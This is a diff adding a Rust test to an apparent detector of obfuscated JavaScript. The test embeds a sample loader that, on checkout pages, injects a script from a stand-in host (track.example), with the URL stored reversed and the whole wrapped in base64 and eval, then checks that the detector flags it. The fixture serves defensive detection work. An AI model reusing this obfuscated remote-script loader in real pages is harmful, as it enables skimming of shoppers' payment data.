@@ -219,3 +219,14 @@ fn the_older_rotation_is_an_obfuscators_too() {
         + "var _0x4e2a=['log','hello'];(function(a,b){var c=function(d){while(--d){a['push'](a['shift']());}};c(++b);}(_0x4e2a,0x1b3));";
     assert_eq!(found(&js), Some(Danger::High));
 }
+
+#[test]
+fn hidden_code_is_read_as_code() {
+    // A loader kept in base64, whose own address is reversed inside it.
+    let inner = "if (/checkout/.test(window.location)) { document.write('>tpircs/<>\"sj.a/elpmaxe.kcart//:sptth\"=crs tpircs<'.split('').reverse().join('')); }";
+    let b64 = base64::engine::general_purpose::STANDARD.encode(inner);
+    assert_eq!(found(&format!("this['eval'](this['atob']('{b64}'));")), Some(Danger::High));
+    // Base64 of ordinary code is not.
+    let plain = base64::engine::general_purpose::STANDARD.encode("console.log('menu ready'); init(1, 2, 3);");
+    assert_eq!(found(&format!("eval(atob('{plain}'));")), None);
+}
